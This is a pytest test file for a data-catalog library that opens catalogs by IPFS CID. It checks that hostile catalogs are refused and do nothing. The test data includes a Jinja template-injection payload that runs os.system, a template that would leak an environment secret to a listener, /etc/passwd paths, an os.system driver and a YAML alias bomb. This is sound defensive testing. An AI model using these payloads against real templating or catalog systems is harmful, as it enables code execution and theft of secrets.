"""A catalog opened by CID is data: it runs nothing and reaches nothing but its own DAG.

Each hostile catalog is written here, added to the test's repository (which the embedded
gateway serves), and opened with ``howto.get_intake_catalog(cid)``.  The attacks are the
ones plain intake would carry out: Jinja templates that run code or read the environment,
drivers imported by name, and URLs that point off the DAG.
"""

from __future__ import annotations

import socket
import threading
import time
from pathlib import Path

import pytest

import howto
from howto.catalog import PROFILE
from howto.catalog.pinned import MAX_CATALOG_BYTES, MAX_DEPTH
from howto.errors import CatalogError
from howto.retrieval.discovery import configured_gateway

ZARR_ARGS = "    driver: zarr\n    args:\n      consolidated: false\n"


@pytest.fixture(autouse=True)
def offline(no_configured_gateway):
    assert configured_gateway() is None


class Listener:
    """A TCP socket on 127.0.0.1 that records whether anything connected to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(65536))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def tiny_zarr(folder: Path) -> None:
    import numpy as np
    import xarray as xr

    xr.Dataset({"t": ("z", np.arange(4.0))}).to_zarr(folder, zarr_format=2, consolidated=False)


def pin(tmp_path: Path, files: dict[str, str], with_data: bool = False) -> str:
    """Add a catalog tree (file name → text) to the repository; return its root CID."""
    root = tmp_path / "catalog"
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    if with_data:
        tiny_zarr(root / "data" / "t.zarr")
    return str(howto.add(root, **PROFILE))


def one_entry(urlpath: str, extra: str = "") -> dict[str, str]:
    text = f"sources:\n  sonde:\n{ZARR_ARGS}      urlpath: {urlpath!r}\n{extra}"
    return {"catalog.yml": text}


def refusal(cid: str, path: str = "sonde", **options: object) -> CatalogError:
    """The catalog opens and lists the entry at ``path``; opening the entry raises this."""
    cat = howto.get_intake_catalog(cid, **options)
    *parents, name = path.split(".")
    for part in parents:
        cat = cat[part]
    assert name in list(cat)
    with pytest.raises(CatalogError) as info:
        cat[name].to_dask()
    assert "\n" not in str(info.value)
    return info.value


def test_a_checked_catalog_with_catalog_dir_paths_opens_and_reads(tmp_path) -> None:
    cid = pin(
        tmp_path,
        {
            "catalog.yml": "sources:\n  sub:\n    driver: yaml_file_cat\n    args:\n"
            "      path: '{{ CATALOG_DIR }}/sub/catalog.yml'\n",
            "sub/catalog.yml": "description: the sub-catalog\nsources:\n  t:\n"
            f"{ZARR_ARGS}      urlpath: '{{{{ CATALOG_DIR }}}}/../data/t.zarr'\n",
        },
        with_data=True,
    )
    cat = howto.get_intake_catalog(cid)
    assert list(cat) == ["sub"] and list(cat.sub) == ["t"]
    assert cat.sub.t.to_dask()["t"].values.tolist() == [0.0, 1.0, 2.0, 3.0]
    assert list(cat.walk(depth=2)) == ["sub.t", "sub"]


def test_a_template_that_runs_code_is_refused_and_never_runs(tmp_path) -> None:
    marker = tmp_path / "pwned"
    payload = "{{ cycler.__init__.__globals__.os.system('touch " + str(marker) + "') }}/x.zarr"
    cid = pin(tmp_path, one_entry(payload))
    for verified_only in (True, False):
        error = refusal(cid, verified_only=verified_only)
        assert "catalog.yml: entry 'sonde': templates are not allowed" in str(error)
    assert not marker.exists()


def test_an_environment_lookup_sent_to_a_listener_is_refused(
    tmp_path, monkeypatch, listener
) -> None:
    monkeypatch.setenv("HOWTO_TEST_SECRET", "s3cr3t")
    url = f"http://127.0.0.1:{listener.port}/{{{{ env('HOWTO_TEST_SECRET') }}}}"
    cid = pin(tmp_path, one_entry(url))
    for verified_only in (True, False):
        assert "templates are not allowed" in str(refusal(cid, verified_only=verified_only))
    time.sleep(0.3)
    assert listener.received == []


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("file:///etc/passwd", "is a local path"),
        ("/etc/passwd", "is a local path"),
        ("relative/file.zarr", "is a local path"),
        ("ipfs:/not-a-cid", "is a local path"),
        ("ipfs://bafy-not-a-cid/data.zarr", "entry 'sonde'"),
        ("ftp://127.0.0.1/data.zarr", "protocol 'ftp' is not allowed"),
    ],
)
def test_local_and_malformed_urls_are_refused_even_unverified(tmp_path, url, reason) -> None:
    cid = pin(tmp_path, one_entry(url))
    for verified_only in (True, False):
        error = refusal(cid, verified_only=verified_only)
        assert "entry 'sonde'" in str(error) and reason in str(error)
        assert "verified_only" not in str(error)


@pytest.mark.parametrize(
    "url", ["s3://bucket/data.zarr", "https://example.org/x.zarr", "simplecache::https://e.org/x"]
)
def test_a_location_entry_names_the_opt_in(tmp_path, url) -> None:
    cid = pin(tmp_path, one_entry(url))
    error = refusal(cid)
    assert "is not content-addressed" in str(error) and "verified_only=False" in str(error)
    cat = howto.get_intake_catalog(cid)
    assert cat.walk(depth=3)["sonde"].describe()["metadata"]["howto"]["verdict"] == "location"


def test_a_plain_http_url_is_refused_before_any_connection(tmp_path, listener) -> None:
    cid = pin(tmp_path, one_entry(f"http://127.0.0.1:{listener.port}/data.zarr"))
    assert "verified_only=False" in str(refusal(cid))
    time.sleep(0.3)
    assert listener.received == []


def test_a_path_that_climbs_out_of_the_root_cid_is_refused(tmp_path) -> None:
    cid = pin(tmp_path, one_entry("{{ CATALOG_DIR }}/../../elsewhere.zarr"))
    assert "leaves the catalog's root CID" in str(refusal(cid))


def test_a_hostile_entry_in_a_sub_catalog_is_refused_on_its_own(tmp_path) -> None:
    cid = pin(
        tmp_path,
        {
            "catalog.yml": "sources:\n  sub:\n    driver: yaml_file_cat\n    args:\n"
            "      path: '{{ CATALOG_DIR }}/sub.yml'\n",
            "sub.yml": one_entry("file:///etc/passwd")["catalog.yml"]
            + f"  t:\n{ZARR_ARGS}      urlpath: '{{{{ CATALOG_DIR }}}}/data/t.zarr'\n",
        },
        with_data=True,
    )
    assert str(refusal(cid, "sub.sonde")).startswith(f"ipfs://{cid}/sub.yml: entry 'sonde': ")
    cat = howto.get_intake_catalog(cid)
    assert cat.sub.t.to_dask()["t"].values.tolist() == [0.0, 1.0, 2.0, 3.0]


def test_a_sub_catalog_that_includes_itself_refuses_only_that_entry(tmp_path) -> None:
    text = "sources:\n  again:\n    driver: yaml_file_cat\n    args:\n"
    text += "      path: '{{ CATALOG_DIR }}/catalog.yml'\n"
    text += f"  t:\n{ZARR_ARGS}      urlpath: '{{{{ CATALOG_DIR }}}}/data/t.zarr'\n"
    cid = pin(tmp_path, {"catalog.yml": text}, with_data=True)
    cat = howto.get_intake_catalog(cid)
    assert sorted(cat.walk(depth=10)) == ["again", "t"]
    assert cat.t.to_dask()["t"].size == 4
    with pytest.raises(CatalogError, match=r"entry 'again': sub-catalog .* includes itself"):
        cat.again.walk()


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        ("    driver: os.system\n    args:\n      urlpath: ipfs://{cid}\n", "driver 'os.system'"),
        (
            "    driver: intake_xarray.xzarr.ZarrSource\n    args:\n      urlpath: ipfs://{cid}\n"
            "      storage_options: {{gateway_addr: 'http://127.0.0.1:1'}}\n",
            "argument 'storage_options'",
        ),
        (
            "    driver: netcdf\n    args:\n      urlpath: ipfs://{cid}\n"
            "      xarray_kwargs: {{backend_kwargs: {{}}}}\n",
            "xarray option 'backend_kwargs'",
        ),
        (
            "    driver: netcdf\n    args:\n      urlpath: ipfs://{cid}\n"
            "      xarray_kwargs: {{engine: my.module.Backend}}\n",
            "engine 'my.module.Backend'",
        ),
        (
            "    driver: opendap\n    args:\n      urlpath: https://127.0.0.1:1/x.nc\n"
            "      auth: esgf\n",
            "'auth' would read credentials",
        ),
        (
            "    driver: opendap\n    args:\n      urlpath: ipfs://{cid}\n",
            "opendap needs a server",
        ),
        ("    driver: [zarr]\n    args:\n      urlpath: ipfs://{cid}\n", "driver ['zarr'] is not"),
        (
            "    driver: zarr\n    args:\n      urlpath: '{{{{ CATALOG_DIR }}}}x'\n",
            "CATALOG_DIR }} must be followed by '/'",
        ),
        (
            "    driver: zarr\n    args:\n      urlpath: ipfs://{cid}\n"
            "    metadata:\n      note: '{{{{ 7 * 7 }}}}'\n",
            "templates are not allowed",
        ),
    ],
)
def test_drivers_arguments_and_fields_outside_the_allowlist_are_refused(
    tmp_path, entry, message
) -> None:
    data_cid = howto.get_latest_catalog_cid()
    cid = pin(tmp_path, {"catalog.yml": "sources:\n  sonde:\n" + entry.format(cid=data_cid)})
    for verified_only in (True, False):
        assert message in str(refusal(cid, verified_only=verified_only))


def test_plugins_and_unknown_keys_are_ignored_and_import_nothing(tmp_path) -> None:
    import sys

    text = "plugins:\n  source:\n    - module: antigravity\nsomething_new: [1, 2]\n"
    text += "description: a tree\nsources:\n"
    text += f"  t:\n{ZARR_ARGS}      urlpath: '{{{{ CATALOG_DIR }}}}/data/t.zarr'\n"
    text += "    parameters: {user: {type: str, default: 'env(HOME)'}}\n    tags: [x]\n"
    cid = pin(tmp_path, {"catalog.yml": text}, with_data=True)
    cat = howto.get_intake_catalog(cid)
    assert cat.description == "a tree" and list(cat) == ["t"]
    assert cat.t.to_dask()["t"].size == 4
    assert "antigravity" not in sys.modules


@pytest.mark.timeout(60)
def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path) -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 12):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    lines.append("sources:\n  bomb:\n    driver: zarr\n    args:\n      urlpath: ipfs://x")
    lines.append("    metadata: {all: *a11}")
    cid = pin(tmp_path, {"catalog.yml": "\n".join(lines) + "\n"})
    with pytest.raises(CatalogError, match="aliases are not allowed"):
        howto.get_intake_catalog(cid)


def test_deep_nesting_and_oversized_files_are_refused(tmp_path) -> None:
    deep = "sources: {}\nmetadata: " + "[" * (MAX_DEPTH + 5) + "]" * (MAX_DEPTH + 5) + "\n"
    cid = pin(tmp_path / "deep", {"catalog.yml": deep})
    with pytest.raises(CatalogError, match="nested deeper"):
        howto.get_intake_catalog(cid)
    big = "sources: {}\nmetadata:\n  note: '" + "x" * MAX_CATALOG_BYTES + "'\n"
    cid = pin(tmp_path / "big", {"catalog.yml": big})
    with pytest.raises(CatalogError, match="more than a catalog may have"):
        howto.get_intake_catalog(cid)


def test_options_for_a_pinned_catalog_are_refused() -> None:
    with pytest.raises(TypeError, match="takes no options"):
        howto.get_intake_catalog(True, storage_options={"gateway_addr": "http://127.0.0.1:1"})


@pytest.mark.timeout(30)
def test_an_over_long_cid_string_is_rejected_at_once() -> None:
    started = time.monotonic()
    with pytest.raises(ValueError, match="not a CID"):
        howto.get_intake_catalog("b" + "a" * 400_000)
    assert time.monotonic() - started < 1


def test_the_classic_catalog_still_renders_its_catalog_dir_template() -> None:
    cat = howto.get_intake_catalog(False)
    assert cat.BCO.radiosondes.level2.to_dask().sizes["alt"] > 1000


def test_a_sub_catalog_whose_blocks_are_nowhere_refuses_only_its_entry(tmp_path) -> None:
    elsewhere = tmp_path / "elsewhere.yml"
    elsewhere.write_text("sources: {}\n")
    gone = howto.add(elsewhere, only_hash=True, **PROFILE)
    text = f"sources:\n  gone:\n    driver: yaml_file_cat\n    args:\n      path: ipfs://{gone}\n"
    text += f"  t:\n{ZARR_ARGS}      urlpath: '{{{{ CATALOG_DIR }}}}/data/t.zarr'\n"
    cid = pin(tmp_path, {"catalog.yml": text}, with_data=True)
    cat = howto.get_intake_catalog(cid)
    assert cat.t.to_dask()["t"].size == 4
    error = refusal(cid, "gone")
    assert str(error).startswith(f"ipfs://{cid}/catalog.yml: entry 'gone': sub-catalog ipfs://")
    assert "not available" in str(error)
